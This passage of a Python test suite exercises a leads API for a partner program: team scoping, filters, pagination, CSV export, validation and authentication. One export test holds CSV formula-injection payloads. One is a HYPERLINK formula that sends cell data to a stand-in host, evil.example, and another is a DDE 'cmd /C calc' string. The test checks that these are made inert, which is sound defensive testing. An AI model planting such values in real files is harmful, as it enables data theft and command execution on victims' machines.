                               "partner_id": None}], g["conflicts"]
    # The partner still sees no lead ids.
    p = get(srv, ctx, eve["id"], key=ctx["k_p2"])
    assert all("lead_id" not in c and "partner_id" not in c for c in p.get("conflicts", [])), p


# ---- scoping ----

def test_scoped_credentials_see_their_team_only(srv, ctx):
    lp1 = new(srv, ctx, email="scope-p1@scope.example", partner_id=ctx["p1"])
    la1 = new(srv, ctx, email="scope-a1@scope.example", agent_id=ctx["a1"])
    la2 = new(srv, ctx, email="scope-a2@scope.example", agent_id=ctx["a2"])
    lp2 = new(srv, ctx, email="scope-p2@scope.example", partner_id=ctx["p2"])
    l0 = new(srv, ctx, email="scope-none@scope.example")
    assert la1["attribution"]["partner_id"] == ctx["p1"]
    team = {ctx["p1"], ctx["a1"], ctx["a2"], ctx["t1"]}

    def mine(l):
        return l["attribution"]["partner_id"] in team or l["attribution"]["agent_id"] in team

    everything = listed(srv, LEADS, key=ctx["admin"])
    for kw in ({"key": ctx["k_p1"]}, {"key": ctx["k_mgr"]}, {"session": ctx["s_mgr"]}):
        got = listed(srv, LEADS, **kw)
        assert {lp1["id"], la1["id"], la2["id"]} <= set(ids(got)), kw
        assert all(mine(l) for l in got), kw
        assert set(ids(got)) == {l["id"] for l in everything if mine(l)}, kw
        for other in (lp2, l0):
            expect(srv.get(LEADS + "/" + other["id"], **kw), 404, field="id")
            expect(srv.get(LEADS + "/" + other["id"] + "/history", **kw), 404, field="id")
        assert listed(srv, LEADS + "?partner_id=" + ctx["p2"], **kw) == []
    got = listed(srv, LEADS, key=ctx["k_a1"])
    assert la1["id"] in ids(got) and all(l["attribution"]["agent_id"] == ctx["a1"] for l in got), got
    for other in (lp1, la2, lp2):
        expect(srv.get(LEADS + "/" + other["id"], key=ctx["k_a1"]), 404)
    got = listed(srv, LEADS, session=ctx["s_p2"])
    assert lp2["id"] in ids(got) and all(l["attribution"]["partner_id"] == ctx["p2"] for l in got)
    got2 = listed(srv, LEADS, key=ctx["k_p2"])
    assert ids(got2) == ids(got)
    expect(srv.get(LEADS + "/" + lp1["id"], session=ctx["s_p2"]), 404)
    ctx["scope"] = {"lp1": lp1, "la1": la1, "lp2": lp2}


def test_lead_of_a_team_member_is_listed_where_it_can_be_read(srv, ctx):
    # t1 is an affiliate in p1's team (team_parent_id = p1): p1 reads its lead by id, so p1's list shows it too.
    lt = new(srv, ctx, email="scope-t1@scope.example", partner_id=ctx["t1"])
    assert lt["attribution"]["partner_id"] == ctx["t1"]
    by_id = srv.get(LEADS + "/" + lt["id"], key=ctx["k_p1"]).status
    in_list = lt["id"] in ids(listed(srv, LEADS, key=ctx["k_p1"]))
    in_export = lt["id"] in [r["id"] for r in export(srv, key=ctx["k_p1"])[0]]
    assert (by_id == 200) == in_list == in_export, \
        "p1 key: GET by id %d, in list %s, in export %s" % (by_id, in_list, in_export)


def test_partners_change_only_their_registrations(srv, ctx):
    sc = ctx["scope"]
    r = srv.patch(LEADS + "/" + sc["lp1"]["id"], {"name": "Hijack"}, key=ctx["k_p1"])
    expect(r, 403)
    expect(srv.patch(LEADS + "/" + sc["lp2"]["id"], {"name": "Hijack"}, key=ctx["k_p1"]), 404)
    u = expect(srv.patch(LEADS + "/" + ctx["reg_user"]["id"], {"name": "Deal Four", "phone": "555 0100"},
                         key=ctx["k_p2"]), 200)
    assert u["name"] == "Deal Four" and u["phone"] == "555 0100"
    assert get(srv, ctx, sc["lp1"]["id"])["name"] is None
    a = expect(srv.patch(LEADS + "/" + sc["lp1"]["id"], {"company": "Scope Inc"}, key=ctx["admin"]), 200)
    assert a["company"] == "Scope Inc" and a["status"] == sc["lp1"]["status"]


# ---- filters and pagination ----

def test_filters(srv, ctx):
    f = expect(srv.post(PROGRAMS, {"name": "Filters", "currency": "usd"}, key=ctx["admin"]), 201)["id"]
    ctx["f"] = f
    fp = expect(srv.post(PARTNERS, {"program_id": f, "name": "F Org", "email": "forg@partners.example"},
                         key=ctx["admin"]), 201)["id"]
    fa = expect(srv.post(PARTNERS, {"program_id": f, "name": "F Agent", "email": "fagent@partners.example",
                                    "kind": "agent", "team_parent_id": fp}, key=ctx["admin"]), 201)["id"]
    fk = srv.admin_key(role="partner", partner=fa, name="f agent")
    made = []
    # Three days, four leads each.
    for day in range(3):
        if day:
            advance(srv, ctx, DAY)
        made.append(new(srv, ctx, prog=None, program_id=f, email="d%d-a@filters.example" % day, source="organic"))
        made.append(new(srv, ctx, prog=None, program_id=f, email="d%d-b@filters.example" % day, partner_id=fp))
        made.append(new(srv, ctx, prog=None, program_id=f, email="d%d-c@filters.example" % day, agent_id=fa,
                        source="campaign"))
        made.append(new(srv, ctx, key=fk, prog=None, email="d%d-d@filters.example" % day))
    move(srv, ctx, made[0]["id"], "contacted")
    move(srv, ctx, made[4]["id"], "lost")
    move(srv, ctx, made[8]["id"], "contacted")
    everything = listed(srv, LEADS + "?program_id=" + f)
    assert len(everything) == 12
    assert ids(everything) == ids(reversed(made)), "newest first"
    by_id = {l["id"]: l for l in everything}

    def check(query, want):
        got = ids(listed(srv, LEADS + "?program_id=" + f + "&" + query))
        exp = [l["id"] for l in everything if want(l)]
        assert got == exp, (query, len(got), len(exp))
        return got

    check("status=contacted", lambda l: l["status"] == "contacted")
    check("status=lost", lambda l: l["status"] == "lost")
    check("status=pending_review", lambda l: l["status"] == "pending_review")
    check("source=campaign", lambda l: l["source"] == "campaign")
    check("source=organic&status=contacted", lambda l: l["source"] == "organic" and l["status"] == "contacted")
    check("partner_id=" + fp, lambda l: l["attribution"]["partner_id"] == fp)
    check("agent_id=" + fa, lambda l: l["attribution"]["agent_id"] == fa)
    check("registration=true", lambda l: l["registration"] is not None)
    check("registration=false", lambda l: l["registration"] is None)
    day1 = ts(made[4]["created_at"])
    frm, to = rfc3339(day1 - timedelta(hours=12)), rfc3339(day1 + timedelta(hours=12))
    got = check("created_from=" + frm, lambda l: ts(l["created_at"]) >= day1 - timedelta(hours=12))
    assert len(got) == 8
    got = check("created_to=" + to, lambda l: ts(l["created_at"]) < day1 + timedelta(hours=12))
    assert len(got) == 8
    got = check("created_from=%s&created_to=%s" % (frm, to),
                lambda l: abs(ts(l["created_at"]) - day1) < timedelta(hours=12))
    assert sorted(got) == sorted(l["id"] for l in made[4:8])
    # RFC 3339 with an offset means the same instant.
    off = (day1 - timedelta(hours=12)).astimezone(timezone(timedelta(hours=2))).strftime("%Y-%m-%dT%H:%M:%S+02:00")
    assert ids(listed(srv, LEADS + "?program_id=" + f + "&created_from=" + quote(off))) == \
        ids(listed(srv, LEADS + "?program_id=" + f + "&created_from=" + frm))
    # Filters inside a partner's scope.
    got = ids(listed(srv, LEADS + "?status=pending_review", key=fk))
    assert sorted(got) == sorted(l["id"] for l in made[3::4])
    ctx["filter_leads"] = made
    assert all(by_id[l["id"]]["program_id"] == f for l in made)


def test_pagination(srv, ctx):
    f = ctx["f"]
    full = listed(srv, LEADS + "?program_id=" + f)
    items, pages = walk_pages(srv, LEADS + "?program_id=" + f, 5, key=ctx["admin"])
    assert ids(items) == ids(full) and len(pages) == 3
    assert [len(p["data"]) for p in pages] == [5, 5, 2]
    items, pages = walk_pages(srv, LEADS + "?program_id=" + f + "&registration=false", 4, key=ctx["admin"])
    assert len(items) == 9 and len(set(ids(items))) == 9 and len(pages) == 3
    first = expect(srv.get(LEADS + "?limit=1", key=ctx["admin"]), 200)
    assert len(first["data"]) == 1 and first["has_more"] is True


def test_bad_list_queries_are_refused(srv, ctx):
    filters = [("status=won", "status"), ("source=web", "source"), ("created_from=yesterday", "created_from"),
               ("created_to=2026-13-01T00:00:00Z", "created_to"), ("created_from=2026-02-30T00:00:00Z", "created_from"),
               ("registration=yes", "registration"), ("sort=email", "sort"), ("q=x", "q")]
    paging = [("limit=0", "limit"), ("limit=101", "limit"), ("limit=ten", "limit"),
              ("starting_after=lead_nope", "starting_after")]
    for query, field in filters + paging:
        r = srv.get(LEADS + "?" + query, key=ctx["admin"])
        assert r.status == 400 and r.json["error"]["field"] == field, (query, r)
    for query, field in filters:
        r = srv.get(LEADS + "/export?" + query, key=ctx["admin"])
        assert r.status == 400 and r.json and r.json["error"]["field"] == field, (query, r)


# ---- export ----

def test_export_matches_the_list(srv, ctx):
    f = ctx["f"]
    rows, r = export(srv, "?program_id=" + f, key=ctx["admin"])
    assert "attachment" in (r.header("Content-Disposition") or "")
    full = listed(srv, LEADS + "?program_id=" + f)
    assert [x["id"] for x in rows] == ids(full)
    for row, l in zip(rows, full):
        assert row["email"] == l["email"] and row["status"] == l["status"] and row["source"] == l["source"]
        assert row["partner_id"] == (l["attribution"]["partner_id"] or "")
        assert row["agent_id"] == (l["attribution"]["agent_id"] or "")
        assert row["method"] == l["attribution"]["method"]
        assert row["registration"] == ("true" if l["registration"] else "false")
        assert row["created_at"] == l["created_at"]
    rows, _ = export(srv, "?program_id=" + f + "&status=contacted", key=ctx["admin"])
    assert sorted(x["id"] for x in rows) == sorted(ids(listed(srv, LEADS + "?program_id=" + f + "&status=contacted")))
    assert len(rows) == 2
    rows, _ = export(srv, "?program_id=" + f + "&registration=true", key=ctx["admin"])
    assert len(rows) == 3 and all(x["status"] == "pending_review" for x in rows)
    # An empty selection is just the header.
    rows, r = export(srv, "?program_id=" + f + "&status=converted", key=ctx["admin"])
    assert rows == [] and r.body.count("\n") == 1


def test_export_is_scoped(srv, ctx):
    rows, _ = export(srv, key=ctx["k_p2"])
    assert rows and all(x["partner_id"] == ctx["p2"] for x in rows)
    assert sorted(x["id"] for x in rows) == sorted(ids(listed(srv, LEADS, key=ctx["k_p2"])))
    rows, _ = export(srv, session=ctx["s_mgr"])
    team = {ctx["p1"], ctx["a1"], ctx["a2"], ctx["t1"]}
    assert rows and all(x["partner_id"] in team or x["agent_id"] in team for x in rows)


def test_export_makes_formula_cells_inert(srv, ctx):
    evil = {"name": '=HYPERLINK("http://evil.example/?x="&A1, "Click")', "company": "+cmd|' /C calc'!A0",
            "external_id": "-2+3", "phone": "+1 555 0100"}
    l = new(srv, ctx, email="@".join(["=calc", "formula.example"]), **evil)
    l2 = new(srv, ctx, email="plain@formula.example", name="@SUM(A1:A9)", company='Smith, "Jr" & Sons')
    rows, _ = export(srv, "?program_id=" + ctx["prog"], key=ctx["admin"])
    by = {x["id"]: x for x in rows}
    row = by[l["id"]]
    assert row["email"] == "'=calc@formula.example", row
    assert row["name"] == "'" + evil["name"], row
    assert row["company"] == "'" + evil["company"], row
    assert row["external_id"] == "'-2+3", row
    assert row["phone"] == "'+1 555 0100", row
    row2 = by[l2["id"]]
    assert row2["name"] == "'@SUM(A1:A9)" and row2["company"] == 'Smith, "Jr" & Sons', row2
    assert by[ctx["bob"]["id"]]["name"] == "Bob Jones", "ordinary cells are left alone"
    # The JSON API returns the values as given.
    assert get(srv, ctx, l["id"])["name"] == evil["name"]


def test_export_of_many_leads_has_every_row_once(srv, ctx):
    import http.client
    import json
    bulk = expect(srv.post(PROGRAMS, {"name": "Bulk", "currency": "usd"}, key=ctx["admin"]), 201)["id"]
    n = 230
    conn = http.client.HTTPConnection("127.0.0.1", srv.port, timeout=30)
    for i in range(n):
        conn.request("POST", LEADS, body=json.dumps({"program_id": bulk, "email": "bulk%03d@bulk.example" % i}),
                     headers={"Authorization": "Bearer " + ctx["admin"], "Content-Type": "application/json"})
        r = conn.getresponse()
        r.read()
        assert r.status == 201
    conn.close()
    rows, _ = export(srv, "?program_id=" + bulk, key=ctx["admin"])
    emails = [x["email"] for x in rows]
    assert len(emails) == n and len(set(emails)) == n
    assert emails[0] == "bulk%03d@bulk.example" % (n - 1) and emails[-1] == "bulk000@bulk.example"


# ---- validation ----

BAD_CREATES = [
    ({}, "email"),
    ({"name": "No contact"}, "email"),
    ({"email": "", "external_id": ""}, "email"),
    ({"email": "plainaddress"}, "email"),
    ({"email": "a@b"}, "email"),
    ({"email": "two@@ats.example"}, "email"),
    ({"email": "sp ace@x.example"}, "email"),
    ({"email": "x" * 65 + "@long.example"}, "email"),
    ({"email": 5}, "email"),
    ({"email": ["a@b.example"]}, "email"),
    ({"external_id": 42}, "external_id"),
    ({"external_id": "x" * 201}, "external_id"),
    ({"email": "v@valid.example", "name": 5}, "name"),
    ({"email": "v@valid.example", "name": "x" * 201}, "name"),
    ({"email": "v@valid.example", "company": {"a": 1}}, "company"),
    ({"email": "v@valid.example", "phone": "call me maybe"}, "phone"),
    ({"email": "v@valid.example", "phone": "12"}, "phone"),
    ({"email": "v@valid.example", "phone": "1" * 41}, "phone"),
    ({"email": "v@valid.example", "source": "web"}, "source"),
    ({"email": "v@valid.example", "source": "Partner"}, "source"),
    ({"email": "v@valid.example", "source": None}, "source"),
    ({"email": "v@valid.example", "metadata": []}, "metadata"),
    ({"email": "v@valid.example", "metadata": "x"}, "metadata"),
    ({"email": "v@valid.example", "metadata": {"big": "y" * 9000}}, "metadata"),
    ({"email": "v@valid.example", "code": "no-such-code"}, "code"),
    ({"email": "v@valid.example", "code": 5}, "code"),
    ({"email": "v@valid.example", "partner_id": "ptn_nope"}, "partner_id"),
    ({"email": "v@valid.example", "partner_id": 5}, "partner_id"),
    ({"email": "v@valid.example", "agent_id": "ptn_nope"}, "agent_id"),
    ({"email": "v@valid.example", "click_id": 5}, "click_id"),
    ({"email": "v@valid.example", "cookie_click_id": True}, "cookie_click_id"),
    ({"email": "v@valid.example", "program_id": "prg_nope"}, "program_id"),
    ({"email": "v@valid.example", "program_id": 1}, "program_id"),
    ({"email": "v@valid.example", "status": "converted"}, "status"),
    ({"email": "v@valid.example", "id": "lead_mine"}, "id"),
    ({"email": "v@valid.example", "registration": True}, "registration"),
    ({"email": "v@valid.example", "emial": "typo@x.example"}, "emial"),
]


def test_bad_input_is_refused_and_writes_nothing(srv, ctx):
    before = db_counts(srv, TABLES)
    problems = []
    for body, field in BAD_CREATES:
        b = dict(body)
        b.setdefault("program_id", ctx["prog"])
        r = srv.post(LEADS, b, key=ctx["admin"], headers={"Idempotency-Key": "bad-%s" % field})
        if r.status != 400 or not r.json or r.json["error"].get("field") != field \
                or r.json["error"].get("type") != "invalid_request":
            problems.append((body, field, r))
    assert not problems, problems
    for raw in ("{", "[]", "null", '"x"', "", '{"email": "v@valid.example",}'):
        r = srv.post(LEADS, raw=raw, key=ctx["admin"], headers={"Content-Type": "application/json"})
        assert r.status == 400 and r.json["error"]["type"] == "invalid_request", (raw, r)
    assert db_counts(srv, TABLES) == before
    assert not db_rows(srv, "SELECT id FROM leads WHERE email = 'v@valid.example'")
    # The valid version of the same request works.
    new(srv, ctx, email="v@valid.example")


def test_without_credentials_is_401(srv, ctx):
    lid = ctx["bob"]["id"]
    before = db_counts(srv, TABLES)
    for method, path, body in [("GET", LEADS, None), ("POST", LEADS, {"email": "anon@x.example"}),
                               ("GET", LEADS + "/export", None), ("GET", LEADS + "/" + lid, None),
                               ("PATCH", LEADS + "/" + lid, {"name": "x"}),
                               ("POST", LEADS + "/" + lid + "/status", {"status": "contacted"}),
                               ("GET", LEADS + "/" + lid + "/history", None),
                               ("POST", LEADS + "/" + lid + "/approve", None),
                               ("POST", LEADS + "/" + lid + "/reject", {"reason": "x"})]:
        expect(srv.request(method, path, body=body), 401, etype="unauthorized")
        expect(srv.request(method, path, body=body, key="rfk_not_a_real_key"), 401)
    assert db_counts(srv, TABLES) == before
